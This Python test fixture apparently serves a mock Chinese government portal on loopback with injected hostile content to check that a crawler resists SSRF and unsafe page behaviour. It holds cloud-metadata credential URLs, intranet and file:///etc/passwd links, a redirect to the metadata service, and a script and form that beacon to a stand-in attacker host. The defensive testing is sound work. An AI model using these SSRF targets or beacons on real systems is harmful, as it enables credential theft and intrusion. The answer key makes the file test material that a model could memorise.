"""A hostile portal: the 大汉 Hanweb demo portal whose pages carry what an attacker (or a
broken CMS) can put on a page govaudit reads unattended. Served on loopback like every style.

Payloads (``answer_key()["hostile"]`` names the URL of each):

=================  ================================================================================
``internal_links``  the home page links the cloud metadata service (``http://169.254.169.254/…``),
                    the intranet (``http://10.0.0.1/…``), an IPv4-mapped IPv6 literal of the
                    metadata address, ``0.0.0.0`` and non-HTTP schemes (``file:``, ``ftp:``,
                    ``gopher:``): none may ever be requested
``redirect``        an on-site link (``/go/metadata.html``) that answers 302 to the metadata service
``base_href``       a document whose ``<base href="http://169.254.169.254/">`` would send its
                    relative ``<img src>`` and attachment link to the metadata service
``snapshot``        a document with a 150-second ``<meta http-equiv="refresh">`` to an attacker's
                    URL, an inline script, a form posting elsewhere and a remote image: opening
                    its snapshot must do none of it
``refresh``         a document that refreshes after 5 seconds to a page that does not exist: the
                    document is what must be stored (its refresh recorded), not the target's 404
``huge``            a document of ``HUGE_BYTES`` (50 MB; its metadata in the first kilobytes)
``long_title``      a document whose ``<title>`` and ArticleTitle are 1 MB long (the home page's
                    ``<title>`` and SiteName too)
``gbk``             a document encoded in GBK while its header and ``<meta>`` say UTF-8
=================  ================================================================================
"""
from __future__ import annotations

import re

from testbed.corpus import Corpus
from testbed.server import Request, Response, Style
from testbed.styles.hanweb import HanwebStyle

HUGE_BYTES = 50 * 1024 * 1024
LONG_TITLE_BYTES = 1024 * 1024
METADATA_URL = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
INTRANET_URL = "http://10.0.0.1/admin/"
ATTACKER = "http://attacker.hostile.test"
#: links on the home page that must never be requested
INTERNAL_LINKS = [
    METADATA_URL,
    INTRANET_URL,
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://0.0.0.0/",
    "http://10.0.0.1:8080/internal.pdf",
    "file:///etc/passwd",
    "ftp://10.0.0.1/pub/",
    "gopher://10.0.0.1:70/",
]
#: an on-site link that answers 302 to the metadata service (the policy must ask every hop)
REDIRECT_PATH = "/go/metadata.html"
PAYLOADS = ("base_href", "snapshot", "refresh", "huge", "long_title", "gbk")


class HostileStyle(Style):
    name = "hostile"

    def __init__(self, corpus: Corpus):
        super().__init__(corpus)
        self.inner = HanwebStyle(corpus)
        self.payload_paths: dict[str, str] = {}     # path -> payload

    def bind(self, base_url: str) -> None:
        super().bind(base_url)
        self.inner.bind(base_url)
        # one document per payload, taken from different columns where possible
        docs, seen_columns = [], set()
        for d in self.inner.answer_key()["documents"]:
            col = tuple(d["columns"])
            if col not in seen_columns:
                seen_columns.add(col)
                docs.append(d)
        docs += [d for d in self.inner.answer_key()["documents"] if d not in docs]
        self.payload_urls = {p: d["url"] for p, d in zip(PAYLOADS, docs)}
        self.payload_paths = {d["url"][len(self.base_url):]: p for p, d in zip(PAYLOADS, docs)}

    def answer_key(self) -> dict:
        key = self.inner.answer_key()
        key["hostile"] = {"internal_links": INTERNAL_LINKS, **self.payload_urls,
                          "redirect_to_metadata": self.base_url + REDIRECT_PATH,
                          "refresh_target": self.base_url + "/gone/moved-here.html"}
        return key

    def handle(self, req: Request) -> Response | None:
        if req.path == REDIRECT_PATH:      # an on-site URL that redirects to the metadata service
            return Response(302, b"", "text/html", {"Location": METADATA_URL})
        resp = self.inner.handle(req)
        if resp is None or "html" not in (resp.content_type or ""):
            return resp
        if req.path in ("/", "/index.html"):
            links = "".join(f'<li><a href="{u}">内部链接{i}</a></li>' for i, u in enumerate(INTERNAL_LINKS))
            links += f'<li><a href="{REDIRECT_PATH}">跳转链接</a></li>'
            resp = self._edit(resp, body_end=f'<ul class="hostile">{links}</ul>', title=self.long_title)
            return self._edit(resp, meta={"SiteName": self.long_title})
        payload = self.payload_paths.get(req.path)
        if payload is None:
            return resp
        return getattr(self, "_" + payload)(resp)

    # -- payloads ---------------------------------------------------------------------------
    @staticmethod
    def _text(resp: Response) -> str:
        return resp.body if isinstance(resp.body, str) else resp.body.decode("utf-8")

    long_title = "超长标题" * (LONG_TITLE_BYTES // len("超长标题".encode("utf-8")))

    def _edit(self, resp: Response, head: str = "", body_end: str = "", title: str | None = None,
              meta: dict[str, str] | None = None) -> Response:
        text = self._text(resp)
        for name, value in (meta or {}).items():
            text = re.sub(rf'(<meta name="{name}" content=")[^"]*', lambda m: m.group(1) + value, text, count=1)
        if head:
            text = re.sub(r"(<head[^>]*>)", lambda m: m.group(1) + head, text, count=1)
        if title is not None:
            text = re.sub(r"<title>.*?</title>", lambda m: f"<title>{title}</title>", text, count=1, flags=re.S)
        if body_end:
            text = text.replace("</body>", body_end + "</body>", 1)
        return Response(resp.status, text, resp.content_type, dict(resp.headers))

    def _base_href(self, resp: Response) -> Response:
        return self._edit(resp, head='<base href="http://169.254.169.254/">',
                          body_end='<p><img src="latest/meta-data/logo.png" alt="标志">'
                                   '<a href="files/secret-attachment.pdf">附件：秘密.pdf</a></p>')

    def _snapshot(self, resp: Response) -> Response:
        return self._edit(
            resp, head=f'<meta http-equiv="refresh" content="150;url={ATTACKER}/stolen">',
            body_end=(f'<script>document.title="PWNED";fetch("{ATTACKER}/beacon")</script>'
                      f'<form id="hostile-form" action="{ATTACKER}/post" method="post">'
                      f'<input name="q" value="x"><button type="submit">提交</button></form>'
                      f'<img id="hostile-img" src="{ATTACKER}/pixel.png" alt="">'
                      f'<iframe src="{ATTACKER}/frame.html"></iframe>'))

    def _refresh(self, resp: Response) -> Response:
        return self._edit(resp, head='<meta http-equiv="refresh" content="5;url=/gone/moved-here.html">')

    def _huge(self, resp: Response) -> Response:
        text = self._text(resp)
        head, _, tail = text.rpartition("</body>")
        start = head.encode("utf-8")
        end = ("</body>" + tail).encode("utf-8")
        filler = b"<p>" + "填充内容".encode("utf-8") * 16 + b"</p>\n"
        n = (HUGE_BYTES - len(start) - len(end)) // len(filler) + 1
        return Response(resp.status, start + filler * n + end, resp.content_type, dict(resp.headers))

    def _long_title(self, resp: Response) -> Response:
        return self._edit(resp, title=self.long_title, meta={"ArticleTitle": self.long_title})

    def _gbk(self, resp: Response) -> Response:
        # the header and <meta> still say utf-8
        return Response(resp.status, self._text(resp).encode("gbk", "replace"), resp.content_type,
                        dict(resp.headers))
